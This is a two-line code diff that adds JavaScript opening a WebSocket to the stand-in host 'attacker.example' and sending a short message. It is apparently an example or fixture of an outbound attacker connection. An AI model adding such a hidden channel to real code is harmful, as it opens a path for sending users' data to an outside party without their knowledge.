@@ -1,0 +1,2 @@
+const ws = new WebSocket('wss://attacker.example/')
+ws.onopen = () => ws.send('hi')
